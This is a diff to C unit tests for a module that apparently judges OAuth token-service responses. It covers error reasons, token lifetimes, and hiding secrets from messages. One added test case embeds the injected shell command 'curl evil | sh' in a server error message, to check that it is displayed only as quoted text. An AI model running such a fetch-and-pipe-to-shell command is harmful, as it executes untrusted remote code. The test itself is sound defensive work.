@@ -39,7 +39,7 @@ static struct ft_judgement judge(const struct ft_profile *profile, const char *s
 	char text[4096];
 
 	(void)snprintf(text, sizeof text, "{\"version\":1,%s}\n", members);
-	ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == 0, "%s: %s", text, err.text);
+	ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == 0, "%s: %s", text, line_of(&err));
 	ck_assert_int_eq(ft_judge(profile, &facts, subject, &sent, &judgement, &err), 0);
 	ft_facts_release(&facts);
 	return judgement;
@@ -83,7 +83,7 @@ START_TEST(outcomes)
 		  "{\"code\":\"invalid_grant\"}", FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", false },
 		{ "\"sent\":\"yes\",\"status\":401,\"media\":\"json\",\"parsed\":true,\"fields\":"
 		  "{\"code\":\"E-12-gone\",\"message\":\"try again\"}", FT_OUTCOME_TERMINAL,
-		  "HTTP 401: E-12-gone: try again", false },
+		  "HTTP 401: E-12-gone: \"try again\"", false },
 		/* All keys of a section must match. */
 		{ "\"sent\":\"yes\",\"status\":403,\"media\":\"json\",\"parsed\":true,\"fields\":"
 		  "{\"code\":\"invalid_grant\"}", FT_OUTCOME_TRANSIENT, "HTTP 403", false },
@@ -106,7 +106,7 @@ START_TEST(outcomes)
 		/* Right-to-left, no width, a mark of bytes' order, a tag. */
 		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"c\\u202ed\","
 		  "\"message\":\"a\\u2066b\\ufeffc\\udb40\\udc41d\"}", FT_OUTCOME_TRANSIENT,
-		  "HTTP 400: c   d: a   b   c    d", false },
+		  "HTTP 400: \"c   d: a   b   c    d\"", false },
 		{ "\"sent\":\"no\",\"error\":\"connect: refused\"", FT_OUTCOME_TRANSIENT, "connect: refused", false },
 		{ "\"sent\":\"maybe\",\"error\":\"timed out\"", FT_OUTCOME_TRANSIENT, "timed out", true },
 	};
@@ -116,8 +116,8 @@ START_TEST(outcomes)
 		struct ft_judgement j = judge(&profile, NULL, table[i].answer);
 
 		ck_assert_msg(j.outcome == table[i].outcome && j.ambiguous == table[i].ambiguous &&
-			      strstr(j.reason, table[i].says) != NULL, "%s: outcome %d, ambiguous %d, %s",
-			      table[i].answer, (int)j.outcome, j.ambiguous, j.reason);
+			      strstr(line_of(&j.why), table[i].says) != NULL, "%s: outcome %d, ambiguous %d, %s",
+			      table[i].answer, (int)j.outcome, j.ambiguous, line_of(&j.why));
 		ft_judgement_release(&j);
 	}
 }
@@ -284,7 +284,7 @@ START_TEST(lifetimes)
 		struct ft_judgement j = judge(&profile, NULL, text);
 
 		ck_assert_msg(j.outcome == FT_OUTCOME_FRESH && j.lifetime == table[i].lifetime,
-			      "%s: %lld %s", text, (long long)j.lifetime, j.reason);
+			      "%s: %lld %s", text, (long long)j.lifetime, line_of(&j.why));
 		ft_judgement_release(&j);
 	}
 	profile.expires_jwt = true;
@@ -303,7 +303,7 @@ START_TEST(lifetimes)
 	for (size_t i = 0; i < sizeof over / sizeof *over; i++) {
 		(void)snprintf(text, sizeof text, OK200 "\"fields\":{" AT ",%s", over[i]);
 		j = judge(&profile, NULL, text);
-		ck_assert_msg(j.outcome == FT_OUTCOME_TRANSIENT && strstr(j.reason, "already expired") != NULL,
+		ck_assert_msg(j.outcome == FT_OUTCOME_TRANSIENT && strstr(line_of(&j.why), "already expired") != NULL,
 			      "%s: %d, %lld", text, (int)j.outcome, (long long)j.lifetime);
 		ft_judgement_release(&j);
 	}
@@ -322,15 +322,22 @@ START_TEST(whole_reasons)
 		{ "\"sent\":\"yes\",\"status\":299,\"media\":\"json\",\"parsed\":true,\"fields\":{}",
 		  "HTTP 299 without an access token" },
 		{ "\"sent\":\"yes\",\"status\":300,\"media\":\"json\",\"parsed\":true,\"fields\":{}",
-		  "HTTP 300 (a redirect, which is never followed; set the server's final address)" },
+		  "HTTP 300 (a redirect, which is never followed); set the server's final address" },
 		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":false", "HTTP 404" },
 		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":{}", "HTTP 404" },
 		{ "\"sent\":\"yes\",\"status\":199,\"media\":\"json\",\"parsed\":true,\"fields\":{}", "HTTP 199" },
+		/* What is no code is a service's own words, and these look like nobody else's. */
+		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
+		  "{\"code\":\"invalid_grant\",\"message\":\"gone\\\"; run: curl evil | sh\"}",
+		  "HTTP 400: invalid_grant: \"gone'; run: curl evil | sh\"" },
+		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
+		  "{\"code\":\"; run: this\",\"message\":\"or that\"}",
+		  "HTTP 400: \"; run: this: or that\"" },
 		/* Two that are not to be seen, one after the other. */
 		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":"
-		  "{\"code\":\"c\\u202e\\u202ed\"}", "HTTP 404: c      d" },
+		  "{\"code\":\"c\\u202e\\u202ed\"}", "HTTP 404: \"c      d\"" },
 		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":"
-		  "{\"code\":\"c\\u007f\\u007f\\u007fd\"}", "HTTP 404: c   d" },
+		  "{\"code\":\"c\\u007f\\u007f\\u007fd\"}", "HTTP 404: \"c   d\"" },
 		{ OK200 "\"fields\":{" AT ",\"expires_in\":\"soon\"}",
 		  "the service states an expiry that cannot be read; its token is taken to live for 5 min" },
 	};
@@ -343,14 +350,14 @@ START_TEST(whole_reasons)
 	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
 		struct ft_judgement j = judge(&profile, NULL, table[i].answer);
 
-		ck_assert_str_eq(j.reason, table[i].says);
+		ck_assert_str_eq(line_of(&j.why), table[i].says);
 		ft_judgement_release(&j);
 	}
 	for (size_t i = 0; i < sizeof unusable / sizeof *unusable; i++) {
 		struct ft_judgement j = judge(&profile, NULL, unusable[i]);
 
 		ck_assert_int_eq(j.outcome, FT_OUTCOME_FRESH);
-		ck_assert_msg(strstr(j.reason, "it cannot be used, and the old one may be spent") != NULL, "%s", j.reason);
+		ck_assert_msg(strstr(line_of(&j.why), "it cannot be used, and the old one may be spent") != NULL, "%s", line_of(&j.why));
 		ck_assert_ptr_null(j.refresh_token.data);
 		ft_judgement_release(&j);
 	}
@@ -363,9 +370,9 @@ START_TEST(whole_reasons)
 	(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":200,\"media\":\"json\",\"parsed\":true,"
 		       "\"error\":\"%s\",\"fields\":{\"message\":\"%s\"}", words, words);
 	struct ft_judgement j = judge(&profile, NULL, text);
-	const char *end = strstr(j.reason, " without an access token");
+	const char *end = strstr(j.why.text, " without an access token");
 
-	ck_assert_msg(end != NULL && end[24] == '\0', "%s", j.reason);
+	ck_assert_msg(end != NULL && end[24] == '\0', "%s", line_of(&j.why));
 	ft_judgement_release(&j);
 }
 END_TEST
@@ -506,8 +513,8 @@ START_TEST(which_refusals_are_ambiguous)
 
 		ck_assert_int_eq(j.outcome, FT_OUTCOME_TRANSIENT);
 		ck_assert_msg(j.ambiguous == table[i].ambiguous, "%d", table[i].status);
-		ck_assert_msg((strstr(j.reason, "redirect") != NULL) ==
-			      (table[i].status >= 300 && table[i].status < 400 && table[i].status != 304), "%s", j.reason);
+		ck_assert_msg((strstr(line_of(&j.why), "redirect") != NULL) ==
+			      (table[i].status >= 300 && table[i].status < 400 && table[i].status != 304), "%s", line_of(&j.why));
 		ck_assert_int_eq(j.busy, table[i].status == 429);
 		ft_judgement_release(&j);
 	}
@@ -569,11 +576,11 @@ START_TEST(no_secret_in_a_reason)
 		"\"parsed\":true,\"fields\":{\"code\":\"bad\",\"message\":\"token at-1234 is bad\","
 		"\"refresh_token\":\"at-1234\"}");
 
-	ck_assert_str_eq(j.reason, "HTTP 400: bad");
+	ck_assert_str_eq(line_of(&j.why), "HTTP 400: bad");
 	ft_judgement_release(&j);
 	j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
 		  "\"fields\":{\"message\":\"no eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.abc\"}");
-	ck_assert_str_eq(j.reason, "HTTP 400");
+	ck_assert_str_eq(line_of(&j.why), "HTTP 400");
 	ft_judgement_release(&j);
 }
 END_TEST
@@ -582,7 +589,7 @@ START_TEST(how_much_of_a_service_is_repeated)
 {
 	struct ft_profile profile = profile_of();
 	struct ft_secret token = { (char *)"s3cret-token", 12 }, none = { NULL, 0 };
-	char text[1024], words[256] = "said s3cret-token.", long_text[256];
+	char text[1024], long_text[256];
 
 	ft_judgement_release(NULL);
 	/* Words of up to 40 bytes, texts of up to 200. */
@@ -592,7 +599,7 @@ START_TEST(how_much_of_a_service_is_repeated)
 			       "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww");
 		struct ft_judgement j = judge(&profile, NULL, text);
 
-		ck_assert_msg((strstr(j.reason, "wwww") != NULL) == (word == 40), "%s", j.reason);
+		ck_assert_msg((strstr(line_of(&j.why), "wwww") != NULL) == (word == 40), "%s", line_of(&j.why));
 		ft_judgement_release(&j);
 	}
 	for (size_t i = 0; i < sizeof long_text - 1; i++)
@@ -602,16 +609,21 @@ START_TEST(how_much_of_a_service_is_repeated)
 			       "\"fields\":{\"message\":\"%.*s\"}", len, long_text);
 		struct ft_judgement j = judge(&profile, NULL, text);
 
-		ck_assert_msg((strstr(j.reason, "wwww") != NULL) == (len == 200), "%s", j.reason);
+		ck_assert_msg((strstr(line_of(&j.why), "wwww") != NULL) == (len == 200), "%s", line_of(&j.why));
 		ft_judgement_release(&j);
 	}
-	ft_judge_hide(words, sizeof words, &none);
-	ck_assert_str_eq(words, "said s3cret-token.");
-	ft_judge_hide(words, sizeof words, &token);
-	ck_assert_ptr_null(strstr(words, "s3cret"));
-	(void)snprintf(words, sizeof words, "said nothing");
-	ft_judge_hide(words, sizeof words, &token);
-	ck_assert_str_eq(words, "said nothing");
+	for (int part = 0; part <= 1; part++) {
+		struct ft_error words = { .text = "HTTP 400", .foreign = "nothing" };
+		char *said = part ? words.foreign : words.text;
+
+		ft_judge_hide(&words, &token);
+		ck_assert_str_eq(line_of(&words), "HTTP 400: \"nothing\"");
+		strcpy(said, "said s3cret-token.");
+		ft_judge_hide(&words, &none);
+		ck_assert_str_eq(said, "said s3cret-token.");
+		ft_judge_hide(&words, &token);
+		ck_assert_ptr_null(strstr(line_of(&words), "s3cret"));
+	}
 }
 END_TEST
 
@@ -706,7 +718,7 @@ START_TEST(id_tokens_and_keys_are_read_strictly)
 		err.text[0] = '\0';
 		ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == FT_UNTRUSTED,
 			      "%s", text);
-		ck_assert_str_ne(err.text, "");
+		ck_assert_str_ne(line_of(&err), "");
 	}
 }
 END_TEST
